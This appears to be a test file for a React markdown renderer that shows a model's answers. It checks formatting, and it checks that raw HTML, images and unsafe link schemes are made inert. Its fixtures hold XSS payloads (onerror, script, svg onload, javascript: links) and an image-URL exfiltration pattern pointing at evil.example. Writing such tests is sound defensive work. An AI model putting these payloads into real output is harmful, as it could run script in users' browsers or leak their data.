// Markdown of an answer: what it draws, and what it never does, whatever a model writes.

import { render, waitFor } from '@testing-library/react';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { MarkdownRenderer } from './markdown-renderer.tsx';

async function drawn(content: string, isStreaming = false): Promise<HTMLElement> {
  const { container } = render(<MarkdownRenderer content={content} isStreaming={isStreaming} />);
  // Its chunk is imported at first use, which takes a busy machine more than the usual second.
  const isDrawn = () => expect(container.querySelector('.mr-md-blocks')).not.toBeNull();
  await waitFor(isDrawn, { timeout: 10_000 });
  return container;
}

test('whatever level a model begins with, no level of the page’s headings is left out', async () => {
  for (const first of ['#', '##', '###']) {
    const page = await drawn(`${first} Why\n\nIt sold late.\n\n${first}# Then`);
    const [one, other] = page.querySelectorAll('h1, h2, h3, h4, h5, h6');
    expect([first, one?.tagName, /^H[34]$/.test(other?.tagName ?? '')]).toEqual([
      first,
      'H3',
      true,
    ]);
  }
});

test('headings, emphasis, lists, quotes, tables and code become their elements', async () => {
  const page = await drawn(
    [
      '# Why it lost',
      '',
      'It **sold** *late* and `held`:',
      '',
      '- one',
      '  1. nested',
      '',
      '> a quote',
      '',
      '| Symbol | Profit |',
      '|---|---:|',
      '| AAPL | -12 |',
      '',
      '```sql',
      'select 1;',
      '```',
    ].join('\n'),
  );
  expect(page.querySelector('h3')?.textContent).toBe('Why it lost');
  expect(page.querySelector('strong')?.textContent).toBe('sold');
  expect(page.querySelector('em')?.textContent).toBe('late');
  expect(page.querySelector('p code')?.textContent).toBe('held');
  expect(page.querySelector('li ol li')?.textContent).toBe('nested');
  expect(page.querySelector('blockquote')?.textContent?.trim()).toBe('a quote');
  expect(page.querySelector('th')?.textContent).toBe('Symbol');
  expect([...page.querySelectorAll('td')].map((cell) => cell.textContent)).toEqual(['AAPL', '-12']);
  expect(page.querySelector('figcaption span')?.textContent).toBe('sql');
  expect(page.querySelector('pre')?.textContent).toBe('select 1;');
});

test('HTML is text, and images are links that load nothing', async () => {
  const page = await drawn(
    [
      'a <img src=x onerror=alert(1)> b <script>alert(1)</script>',
      '',
      '<iframe src="https://evil.example"></iframe>',
      '',
      '![secret](https://evil.example/?q=secret)',
      '',
      '![](data:image/png;base64,AAAA)',
    ].join('\n'),
  );
  expect(page.querySelectorAll('img, script, iframe, svg, object, style, link')).toHaveLength(0);
  expect(page.textContent).toContain('<img src=x onerror=alert(1)>');
  const links = [...page.querySelectorAll('a')];
  expect(links.map(({ href }) => href)).toEqual(['https://evil.example/?q=secret']);
  expect(links[0]?.textContent).toBe('[image: secret]');
  expect(links[0]?.title).toBe('evil.example');
  expect(links[0]?.rel).toBe('noopener noreferrer nofollow');
});

test('addresses that are no web page are text', async () => {
  const page = await drawn(
    '[a](javascript:alert(1)) [b](/relative) [c](data:text/html,x) [d](https://good.example/x) [e](vbscript:x) [f](mailto:a@b.example)',
  );
  expect([...page.querySelectorAll('a')].map(({ href }) => href)).toEqual([
    'https://good.example/x',
    'mailto:a@b.example',
  ]);
});

test('an answer that is cut anywhere is drawn, and nothing of it is an element that could load or run', async () => {
  const pieces = [
    ...['# T\n', '**b', '*i', '`c', '```js\nx', '\n', '| a | b |\n|--|--|\n| 1', '- l', '> q'],
    ...['[t](https://a.example', '![i](https://a.example/i.png)', '<img src=x>', '<b onclick=x>'],
    ...['[j](javascript:x)', '&lt;script&gt;', '<!-- c -->', '<svg/onload=x>'],
  ];
  await fc.assert(
    fc.asyncProperty(
      fc.array(fc.constantFrom(...pieces), { maxLength: 12 }),
      fc.boolean(),
      async (parts, isStreaming) => {
        const page = await drawn(parts.join(''), isStreaming);
        expect(page.querySelectorAll('img, script, iframe, svg, object, style')).toHaveLength(0);
        for (const { href } of page.querySelectorAll('a'))
          expect(href).toMatch(/^(https?|mailto):/);
        for (const element of page.querySelectorAll('*')) {
          for (const name of element.getAttributeNames()) expect(name).not.toMatch(/^on/);
        }
      },
    ),
    { numRuns: 60 },
  );
});

test('blocks that stand are not drawn again while more comes', async () => {
  const first = 'One paragraph that stands.\n\n';
  const { container, rerender } = render(<MarkdownRenderer content={`${first}Tw`} isStreaming />);
  await waitFor(() => expect(container.querySelectorAll('p')).toHaveLength(2));
  const standing = container.querySelector('p');
  rerender(<MarkdownRenderer content={`${first}Two words`} isStreaming />);
  await waitFor(() => expect(container.querySelectorAll('p')[1]?.textContent).toBe('Two words'));
  expect(container.querySelector('p')).toBe(standing);
});
